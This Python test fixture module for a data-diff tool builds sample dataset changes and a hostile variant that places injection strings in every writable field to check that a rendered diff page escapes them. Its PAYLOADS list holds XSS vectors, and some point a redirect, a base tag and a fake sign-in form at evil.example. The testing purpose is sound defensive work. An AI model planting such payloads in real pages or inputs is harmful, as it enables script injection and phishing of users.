"""Changes of data to be shown: an ordinary release, and one that a stranger wrote to break a page."""

from collections.abc import Sequence

from git_datamanager.model.manifest import Kind
from git_datamanager.ops.inside.differences import DatasetDiff, FolderDiff, MemberChange, Point
from git_datamanager.tables.result import Row, RowChange, SourceDiff, TableDiff
from git_datamanager.tables.schema import Change, Column, ColumnChange, ThingChange

PAYLOADS = (
    "<img src=x onerror=\"window.pwned='img'\">",
    "</script><script>window.pwned='script'</script>",
    "</style><style>body{display:none}</style>",
    '" onmouseover="window.pwned=\'attribute\'" x="',
    "' autofocus onfocus='window.pwned=1",
    "javascript:window.pwned='link'",
    "<a href=\"javascript:window.pwned='a'\">here</a>",
    "<svg onload=window.pwned='svg'><animate onbegin=window.pwned=2>",
    "<iframe srcdoc=\"<script>parent.pwned='frame'</script>\"></iframe>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "--><!--<form action=https://evil.example><button>Sign in</button></form>",
    "]]>&lt;&#60;script&#62;window.pwned=3",
    "\u202etxt.exe\u2066 \x1b[31m\x00\udcff\x01",
)


def changed(name: str, rows: Sequence[RowChange], names: Sequence[str], **more: object) -> TableDiff:
    """A table with the counts that its rows have."""
    tally = {change: sum(row.times for row in rows if row.change is change) for change in Change}
    values: dict[str, object] = {
        "rows_before": 1000, "rows_after": 1000 + tally[Change.ADDED] - tally[Change.REMOVED],
        "key": (names[0],), "before_columns": tuple(names), "after_columns": tuple(names),
        "added": tally[Change.ADDED], "removed": tally[Change.REMOVED], "changed": tally[Change.CHANGED],
        **more,
    }  # fmt: skip
    return TableDiff(name=name, change=Change.CHANGED, samples=tuple(rows), **values)  # type: ignore[arg-type]


def file_diff(name: str, kind: str, *tables: TableDiff, **more: object) -> DatasetDiff:
    things = more.pop("things", ())
    source = SourceDiff(
        kind=kind, size_before=12_000_000, size_after=12_400_000, tables=tables,
        things=things, note=more.pop("note", None),
    )  # type: ignore[arg-type]  # fmt: skip
    return DatasetDiff(
        name=name, kind=Kind.FILE, before=Point("v2", 12_000_000), after=Point("v3", 12_400_000),
        source=source, **more,
    )  # type: ignore[arg-type]  # fmt: skip


def release() -> list[DatasetDiff]:
    """A database, a CSV, a file that was only written anew, a folder, and one that is not here."""
    old = ("id", "name", "region", "capacity_mw", "cost")
    technology = changed(
        "technology",
        [
            RowChange((17, "wind onshore", "DE", 4.2, 1200), (17, "wind onshore", "DE", 4.5, 1180.0, 25)),
            RowChange((18, "wind offshore", "DE", 8.0, 2900), (18, "wind offshore", "DK", 8.0, 2900.0, 25)),
            RowChange((23, "solar rooftop", "ES", 0.5, 890), (23, "solar rooftop ", "ES", 0.5, 845.5, 30)),
            RowChange(None, (1210, "heat pump", "SE", 0.012, 8.5, 18)),
            RowChange(None, (1211, "electrolyser", "NL", 20.0, 950.0, None)),
            RowChange((3, "lignite", "PL", 900.0, 1500), None),
        ],
        old,
        after_columns=(*old, "lifetime"),
        added=6,
        rows_after=1005,
        columns=(
            ColumnChange(Change.ADDED, None, Column("lifetime", "INTEGER"), 812),
            ColumnChange(Change.CHANGED, Column("cost", "INTEGER"), Column("cost", "REAL", not_null=True)),
        ),
    )
    demand = changed(
        "demand", [RowChange(None, (14, 51230.5)), RowChange((14, 51229.0), None, 2)], ("hour", "load"),
        key=(),
    )  # fmt: skip
    region = TableDiff(name="region", change=Change.SAME, rows_before=30, rows_after=30, key=("code",))
    view = "CREATE VIEW cheap AS SELECT * FROM technology WHERE cost < "
    things = (
        ThingChange(Change.ADDED, "index", "by_region", None, "CREATE INDEX by_region ON technology(region)"),
        ThingChange(Change.CHANGED, "view", "cheap", f"{view}700", f"{view}650"),
    )
    prices = changed(
        "rows",
        [
            RowChange(("2026-01-04", "41.20"), ("2026-01-04", "41.75")),
            RowChange(None, ("2026-11-20", "55.10")),
        ],
        ("date", "price"),
    )
    same = TableDiff(name="rows", change=Change.SAME, rows_before=8760, rows_after=8760)
    members = (
        MemberChange("tiles/north.csv", Change.CHANGED, 1000, 1100),
        MemberChange("tiles/south.tif", Change.ADDED, None, 52_000_000),
        MemberChange("legacy.tif", Change.REMOVED, 51_000_000, None),
        MemberChange("tiles/east.tif", Change.CHANGED, 5, 5, "tiles/orient.tif"),
    )
    inside = SourceDiff(kind="csv", size_before=1000, size_after=1100, tables=(prices,))
    folder = FolderDiff(members=members, unchanged=1403, tables={"tiles/north.csv": inside})
    scans = (Point("v1", 5 << 30), Point("v2", 5 << 30))
    return [
        file_diff("energy/model.sqlite", "sqlite", technology, demand, region, things=things),
        file_diff("prices.csv", "csv", prices),
        file_diff("weather.parquet", "parquet", same),
        DatasetDiff(
            name="maps", kind=Kind.TREE, before=Point("v3", 1 << 30), after=Point("v4", (1 << 30) + 1000),
            folder=folder,
        ),
        DatasetDiff(name="scans.zip", kind=Kind.FILE, before=scans[0], after=scans[1], absent=scans),
    ]  # fmt: skip


def hostile(payload: str) -> list[DatasetDiff]:
    """The payload wherever a stranger can write something."""
    cell: Row = (1, payload)
    columns = ("id", payload)
    table = changed(
        payload,
        [RowChange((1, "was"), cell), RowChange((2, payload), (2, "is")), RowChange(None, (3, payload)),
         RowChange((4, payload), None)],
        columns, key=(payload,), note=payload,
        columns=(
            ColumnChange(Change.ADDED, None, Column(payload, payload, default=payload), 1),
            ColumnChange(Change.CHANGED, Column(payload, payload), Column(payload, payload, not_null=True)),
        ),
    )  # fmt: skip
    still = TableDiff(name=payload, change=Change.SAME)
    things = (ThingChange(Change.CHANGED, "view", payload, payload, f"{payload}!"),)
    inside = file_diff(payload, "csv", table, note=payload).source
    assert inside is not None
    folder = FolderDiff(
        members=(MemberChange(payload, Change.CHANGED, 1, 2, was=payload),), unchanged=0,
        tables={payload: inside}, note=payload,
    )  # fmt: skip
    point = Point(payload, 1)
    return [
        file_diff(payload, "sqlite", table, still, things=things, note=payload, renamed_from=payload),
        DatasetDiff(name=payload, kind=Kind.TREE, before=point, after=point, folder=folder),
        DatasetDiff(name=payload, kind=Kind.FILE, before=point, after=point, problem=payload),
        DatasetDiff(name=payload, kind=Kind.FILE, before=point, after=point, absent=(point,)),
    ]
